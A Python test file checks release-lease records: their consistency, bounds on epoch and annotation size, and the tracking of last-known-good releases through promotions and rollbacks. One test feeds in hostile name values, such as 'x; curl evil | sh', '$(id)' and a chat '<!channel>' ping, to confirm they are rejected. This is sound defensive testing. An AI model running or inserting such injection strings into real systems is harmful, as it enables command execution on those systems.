"""What stands on a service: what cannot be true of it, and which releases it knows as good."""

from collections.abc import Callable
from typing import Any

import pytest

from playbook.lease.lease import EPOCH_MAX, next_epoch
from playbook.lease.record import SIGNATURE, Participant, Record, Unreadable
from playbook.release.promotion import Promotion
from playbook.release.traffic import TrafficSplit

LEAD, OTHER = "ethixai-ai-core", "ethixai-backend"
Made = Callable[..., Any]


def good(revision: str, release: str = "v") -> Promotion:
    return Promotion(release=release, revision=revision, digest="", promoted_at_s=1)


def goods(*revisions: str) -> Record:
    return Record(last_good=tuple(map(good, revisions)))


def known(record: Record) -> list[str]:
    return [one.revision for one in record.last_good]


POINTS = Participant(release_id="v1-1f2e3d", epoch=100, coordinator=LEAD, split=TrafficSplit.all_to("old"))


def test_a_record_that_cannot_be_true_says_why(a_lease: Made) -> None:
    """Although each field can be read."""
    lease = a_lease()
    assert Record(epoch=100, lease=lease).problems(LEAD) == []
    assert Record(epoch=100, participant=POINTS).problems(OTHER) == Record().problems(OTHER) == []
    wrong = {
        "it carries a lease and points to one": Record(epoch=100, lease=lease, participant=POINTS),
        "the lease has epoch 100 and the service 99": Record(epoch=99, lease=lease),
        f"{lease.release_id} has ended": Record(epoch=100, lease=lease, incidents=(lease.release_id,)),
    }
    for problem, record in wrong.items():
        assert record.problems(LEAD) == [problem]
    assert Record(epoch=99, participant=POINTS).problems(OTHER) == ["the lease has epoch 100 and the service 99"]
    assert Record(epoch=100, lease=lease).problems(OTHER) == ["the lease is that of another service"]


HOSTILE = ["x\n<!channel>", "x; curl evil | sh", "$(id)", "`id`", "x" * 301, ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_that_a_chat_or_a_shell_would_obey_is_none(a_lease: Made, text: str) -> None:
    """Wherever a record holds one; the problem is told without a word of it."""
    lease, points = a_lease(), POINTS.model_copy
    records = {
        "its release has no name of ours": Record(epoch=100, lease=lease.model_copy(update={"version": text})),
        "a name in what it points to is none of ours": Record(
            epoch=100, participant=points(update={"release_id": text})
        ),
        "an incident has no name of ours": Record(incidents=(text,)),
    }
    for problem, record in records.items():
        assert record.problems(LEAD if record.lease else OTHER) == [problem]
    there = points(update={"split": TrafficSplit.all_to(text)})
    assert len(Record(epoch=100, participant=there).problems(OTHER)) == 1


def test_an_epoch_leaves_room_for_those_to_come() -> None:
    """One of the far future on one service would end every release of the environment with an epoch that is none."""
    found = Record.parse(LEAD, {"playbook.ethixai.com/epoch": "99999999999"})
    assert isinstance(found, Unreadable)
    assert "leaves no room" in found.problem
    assert Record.parse(LEAD, {"playbook.ethixai.com/epoch": str(EPOCH_MAX)}) == Record(epoch=EPOCH_MAX)
    assert Record(epoch=next_epoch(EPOCH_MAX, 0)).epoch == EPOCH_MAX + 1


def test_a_service_does_not_point_to_itself() -> None:
    """What points to the coordinator's lease is another service."""
    assert Record(epoch=100, participant=POINTS).problems(LEAD) == ["it points to itself"]


def test_no_more_is_read_than_is_kept() -> None:
    """Thirty thousand incidents would be thirty thousand pages to resolve."""
    found = Record.parse(LEAD, {"playbook.ethixai.com/incidents": ",".join(f"v-{n}" for n in range(5_000))})
    assert isinstance(found, Record)
    assert found.incidents == tuple(f"v-{n}" for n in range(4_990, 5_000))


@pytest.mark.parametrize(("length", "is_read"), [(64_000, True), (64_001, False)])
def test_an_annotation_has_a_longest_length(length: int, is_read: bool) -> None:
    """Longer ones are set aside before they are read."""
    found = Record.parse(LEAD, {"playbook.ethixai.com/of-a-later-version": "x" * length})
    assert isinstance(found, Record) is is_read
    if isinstance(found, Unreadable):
        assert found.problem.endswith("is longer than 64000 characters")


@pytest.mark.parametrize(
    ("record", "before", "revisions"),
    [
        pytest.param(Record(), "old", ["new", "old"], id="the first one remembers what it replaced"),
        pytest.param(Record(), "", ["new"], id="unless nothing is known of it"),
        pytest.param(goods("a"), "old", ["new", "a"], id="later ones need not"),
        pytest.param(goods("new", "a"), "old", ["new", "a"], id="written twice it stands there once"),
        pytest.param(goods("a", "b", "c"), "a", ["new", "a", "b"], id="three are kept"),
    ],
)
def test_a_promotion_is_the_newest_good_release(record: Record, before: str, revisions: list[str]) -> None:
    """What a rollback can go back to stands behind it."""
    assert known(record.promoted(good("new"), before)) == revisions


@pytest.mark.parametrize(
    ("record", "revisions"),
    [
        pytest.param(goods("c", "b", "a"), ["b", "a"], id="what came after it is good no more"),
        pytest.param(goods("c", "a"), ["b", "a"], id="one that is not known stands before the rest"),
        pytest.param(goods("c"), ["b"], id="what was taken back is not kept"),
    ],
)
def test_after_a_rollback_what_users_went_back_to_is_the_newest(record: Record, revisions: list[str]) -> None:
    """A rollback from c to b."""
    assert known(record.returned(good("b"), "c")) == revisions


def test_a_good_release_that_runs_in_a_copy_is_found_there() -> None:
    """The revision that must not serve again is named no more; the others stay."""
    copied = goods("b", "a").copied("b", "b-copy")
    assert [(one.release, one.revision) for one in copied.last_good] == [("v", "b-copy"), ("v", "a")]
    assert known(goods("b", "a").without("b")) == ["a"]


def test_what_stands_on_a_service_is_compared_without_its_signature() -> None:
    """Whoever signed it; what others annotate is no part of it."""
    record = Record(epoch=7)
    stands = record.beside({"team": "ours", SIGNATURE: "x"}) | {SIGNATURE: "y"}
    assert record.stands_in(stands)
    assert not Record(epoch=8).stands_in(stands)
    assert not record.stands_in({"team": "ours"})
